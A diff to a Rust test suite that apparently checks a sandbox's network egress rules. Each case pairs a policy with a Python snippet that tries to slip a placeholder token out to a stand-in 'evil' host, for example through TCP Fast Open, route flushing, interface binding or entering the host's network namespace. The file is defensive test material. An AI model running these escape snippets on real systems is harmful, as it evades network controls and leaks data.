@@ -32,22 +32,32 @@ pub struct Way {
     pub code: &'static str,
     pub policy: Policy,
     pub control: Control,
+    /// Whether it needs a sandbox that can dial whatever it wants, and no proxy. gVisor also takes settings of sockets that have no
+    /// effect there, and a proxy does not tell a name without an address from one that does not answer.
+    pub is_without_proxy: bool,
+}
+
+impl Way {
+    const fn without_proxy(self) -> Self {
+        Self { is_without_proxy: true, ..self }
+    }
 }
 
 use Control::{Code, Dialled, DialledCode, Outside, OutsideCode, Under};
 use Policy::{Allow, Deny, Preset, Private};
 
-const GOOD: Policy = Allow(&["good.example.com"]);
-const BOTH: Policy = Allow(&["good.example.com", "evil.example.com"]);
-const EVIL_ADDRESS: Policy = Allow(&["@evil@:80"]);
-const FULL: Policy = Preset("full");
+pub(super) const GOOD: Policy = Allow(&["good.example.com"]);
+pub(super) const BOTH: Policy = Allow(&["good.example.com", "evil.example.com"]);
+pub(super) const EVIL_ADDRESS: Policy = Allow(&["@evil@:80"]);
+pub(super) const FULL: Policy = Preset("full");
 
-const fn way(name: &'static str, policy: Policy, code: &'static str, control: Control) -> Way {
-    Way { name, code, policy, control }
+pub(super) const fn way(name: &'static str, policy: Policy, code: &'static str, control: Control) -> Way {
+    Way { name, code, policy, control, is_without_proxy: false }
 }
 
 pub fn ways() -> Vec<Way> {
-    [addresses(), ports_and_names(), places(), tls(), http(), dns(), other_protocols(), inside()].concat()
+    let dns = dns().into_iter().map(Way::without_proxy).collect();
+    [addresses(), ports_and_names(), places(), tls(), http(), dns, other_protocols(), inside()].concat()
 }
 
 /// Spellings of an address that no rule allows.
@@ -125,6 +135,18 @@ fn addresses() -> Vec<Way> {
             Allow(&["[64:ff9b::c633:6400]/120:80"]),
             "shown(get('64:ff9b::127.0.0.1'))",
             DialledCode("shown(get('64:ff9b::@evil@'))", Allow(&["[64:ff9b::c633:6400]/120:80"])),
+        ),
+        way(
+            "an alias of a denied name",
+            Deny(&["evil.example.com"]),
+            "shown(get('alias.example.com', path='/@token@'))",
+            Under(FULL),
+        ),
+        way(
+            "an alias of a name whose port is denied",
+            Deny(&["evil.example.com:80"]),
+            "shown(get('alias.example.com', path='/@token@'))",
+            Under(Deny(&["evil.example.com:81"])),
         ),
         way(
             "a deny rule, by address",
@@ -342,7 +364,8 @@ fn places() -> Vec<Way> {
             Private("link6.example.com", "80"),
             "print('REACHED', resolve('link6.example.com'))",
             RESOLVED,
-        ),
+        )
+        .without_proxy(),
         way(
             "the metadata service by a name",
             Private("metadata.example.com", "80"),
@@ -379,7 +402,8 @@ fn places() -> Vec<Way> {
             Private("broadcast.example.com", "80"),
             "print('REACHED', resolve('broadcast.example.com'))",
             RESOLVED,
-        ),
+        )
+        .without_proxy(),
     ]
 }
 
@@ -537,7 +561,7 @@ s.bind(('@host@', 53)); s.sendto(b'@token@', ('@evil@', 9999)); s.settimeout(2);
         way("a packet socket", FULL, "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print('REACHED')", Outside),
         way("a virtual machine's socket", FULL, "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print('REACHED')", Outside),
         way("an abstract socket of the host", FULL, "s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('\\0@abstract@'); print('REACHED', some_of(s))", Outside),
-        way("TCP Fast Open", GOOD, "s = socket.socket(); s.sendto(b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n', 0x20000000, ('@evil@', 80)); s.settimeout(5); shown(some_of(s))", Under(EVIL_ADDRESS)),
+        way("TCP Fast Open", GOOD, "s = socket.socket(); s.sendto(b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n', 0x20000000, ('@evil@', 80)); s.settimeout(5); shown(some_of(s))", Under(EVIL_ADDRESS)).without_proxy(),
         way("Multipath TCP", GOOD, "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(5); s.connect(('@evil@', 80)); s.sendall(b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'); shown(some_of(s))", OutsideCode("shown(get('@evil@', path='/@token@'))")),
     ]
 }
@@ -548,7 +572,7 @@ fn inside() -> Vec<Way> {
     vec![
         way("the daemon's listener on loopback", FULL, "for host in ['127.0.0.1', '::1']:
     for port in range(1, 10):
-        if send(host, port, b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n') not in [b'ConnectionRefusedError', b'ConnectionResetError', b' then ConnectionResetError']: print('REACHED', host, port)", Code("s = socket.create_server(('127.0.0.1', 4321)); c = dial('127.0.0.1', 4321); a, _ = s.accept(); a.sendall(b'x'); print('REACHED', some_of(c))", FULL)),
+        if send(host, port, b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n') not in [b'ConnectionRefusedError', b'ConnectionResetError', b' then ConnectionResetError']: print('REACHED', host, port)", Code("s = socket.create_server(('127.0.0.1', 4321)); c = dial('127.0.0.1', 4321); a, _ = s.accept(); a.sendall(b'x'); print('REACHED', some_of(c))", FULL)).without_proxy(),
         way("the port of DNS", FULL, "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(('192.0.2.53', 53)); print('REACHED')", Code("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 5353)); print('REACHED')", FULL)),
         way("a new interface", FULL, "import subprocess; print('REACHED' if subprocess.run(['ip', 'link', 'add', 'd0', 'type', 'veth', 'peer', 'name', 'd1']).returncode == 0 else '')", OutsideCode("import subprocess; print('REACHED' if subprocess.run(['unshare', '-n', 'ip', 'link', 'add', 'd0', 'type', 'veth', 'peer', 'name', 'd1']).returncode == 0 else '')")),
         way("other routes", GOOD, "import subprocess; print(subprocess.run('ip route flush table local; ip route add default dev lo; ip -6 route flush table local', shell=True, capture_output=True))\nshown(get('@evil@', path='/@token@'))", OutsideCode(DIAL)),
@@ -559,8 +583,8 @@ fn inside() -> Vec<Way> {
 fd = os.open('/proc/1/ns/net', os.O_RDONLY); assert ctypes.CDLL(None).setns(fd, 0) == 0; print('REACHED')", OutsideCode("import ctypes, os
 fd = os.open('/proc/self/ns/net', os.O_RDONLY); assert ctypes.CDLL(None).setns(fd, 0) == 0; print('REACHED')")),
         way("an interface by name", GOOD, "c = socket.socket(); c.settimeout(3); c.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0'); c.connect(('@evil@', 80)); c.sendall(b'@token@'); print(c.recv(10))", OutsideCode(DIAL)),
-        way("a mark on packets", FULL, "c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, 36, 1); print('REACHED')", Outside),
-        way("a transparent socket", FULL, "c = socket.socket(); c.setsockopt(socket.SOL_IP, 19, 1); print('REACHED')", Outside),
+        way("a mark on packets", FULL, "c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, 36, 1); print('REACHED')", Outside).without_proxy(),
+        way("a transparent socket", FULL, "c = socket.socket(); c.setsockopt(socket.SOL_IP, 19, 1); print('REACHED')", Outside).without_proxy(),
         way("the runner's socket", FULL, "import os, stat
 for root in ['/run', '/tmp', '/var', '/workspace', '/home', '/dev', '/proc/1/root/run']:
     for place, _, files in os.walk(root):
